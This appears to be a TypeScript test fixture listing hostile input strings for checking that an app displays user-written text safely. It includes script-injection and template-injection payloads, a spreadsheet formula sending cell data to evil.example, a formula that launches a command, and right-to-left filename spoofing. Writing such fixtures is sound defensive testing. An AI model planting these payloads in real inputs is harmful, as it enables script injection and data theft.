/** A text of 100 kB. WebKitGTK takes minutes to lay out such a line, so it is skipped there. */
const isWebKit = navigator.userAgent.includes('AppleWebKit') && !navigator.userAgent.includes('Chrome')
const MANY = isWebKit ? 3_000 : 100_000

/** Texts that an attacker may write into a directory. If one is executed, it sets `globalThis.hostile`. */
export const HOSTILE: Readonly<Record<string, string>> = {
  image: '<img src=x onerror="globalThis.hostile=1"><b>Bold</b>',
  script: '<script>globalThis.hostile=1</script>',
  drawing: '"><svg onload=globalThis.hostile=1><style>*{display:none}</style>',
  field: `' autofocus onfocus=globalThis.hostile=1 x='`,
  frame: '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe><a href="javascript:globalThis.hostile=1">Click</a>',
  address: 'javascript:globalThis.hostile=1',
  template: '{{constructor.constructor("globalThis.hostile=1")()}} <!--?lit$1$--> <?lit$2$>',
  entity: '&lt;b&gt;&#x202e;',
  formula: '=HYPERLINK("https://evil.example?"&A1,"Click")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  override: 'Anna \u202egpj.exe',
  isolates: '\u2069\u2069\u202dAnna\u2066\u2067 (admin)',
  arabic: 'ليلى الخطيب',
  controls: '\u0000\u0007\u001b[31mred\u001b[0m\r\n\t\ufeff',
  half: 'half \ud83d of a pair',
  zalgo: `Z${'\u0337\u0322\u031b'.repeat(200)}algo`,
  proto: '__proto__',
  constructed: 'constructor',
  breaks: `first${'\n'.repeat(MANY / 20)}last`,
  word: 'W'.repeat(MANY),
  words: 'many words '.repeat(MANY / 10),
  marks: `Z${'\u0337'.repeat(MANY)}`,
  emoji: '👩‍👩‍👧‍👦'.repeat(MANY / 10),
}
